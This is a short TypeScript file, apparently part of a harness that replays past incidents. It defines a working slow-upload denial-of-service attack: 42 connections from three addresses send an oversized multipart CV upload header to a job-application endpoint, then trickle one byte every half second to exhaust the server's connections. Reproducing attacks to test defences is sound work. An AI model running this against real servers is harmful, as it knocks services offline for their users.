import { type Attack, addresses, connectFrom, repeat } from '../attack';

const HEAD = [
  'POST /api/job-apply HTTP/1.1',
  'Host: localhost',
  'Content-Type: multipart/form-data; boundary=b',
  'Content-Length: 4000000',
  '',
  '--b',
  'Content-Disposition: form-data; name="cv"; filename="cv.pdf"',
  'Content-Type: application/pdf',
  '',
  '%PDF-1.4\n',
].join('\r\n');

/** Item 2: 42 uploads from three addresses once held every connection to the school API. */
export const slowUploads: Attack = (site) =>
  repeat(42, (n) => {
    const [address = ''] = addresses(3).slice(n % 3);
    const socket = connectFrom(address, site).resume();
    socket.write(HEAD);
    const drops = setInterval(() => socket.write('a'), 500);
    return new Promise((resolve) => socket.once('close', resolve)).finally(() =>
      clearInterval(drops),
    );
  });
